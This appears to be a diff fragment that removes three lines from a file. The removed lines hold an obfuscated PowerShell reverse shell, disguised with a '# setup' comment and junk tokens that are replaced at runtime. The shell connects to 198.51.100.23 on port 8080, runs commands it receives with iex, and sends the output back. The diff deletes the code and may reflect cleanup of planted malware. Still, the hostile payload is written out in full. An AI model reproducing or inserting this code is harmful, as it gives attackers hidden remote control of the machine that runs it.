@@ -1,3 +1,0 @@
-[ScriptBlock]::Create('iex ((''# setup 3283 v3
-$client = New-Object System.Net.Sockets.TCzv~2Client(''''198.51.100.23'''',8080);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName SystemQQJ13.Text.ASCIIEncoding).GetString($bytes,0, $i);QQJ13$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + ''''zv~2S '''' + (pwd).zv~2ath + ''''> '''';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
-'' -replace ''QQJ13'','''').Replace(''zv~2'',''P''))').Invoke()
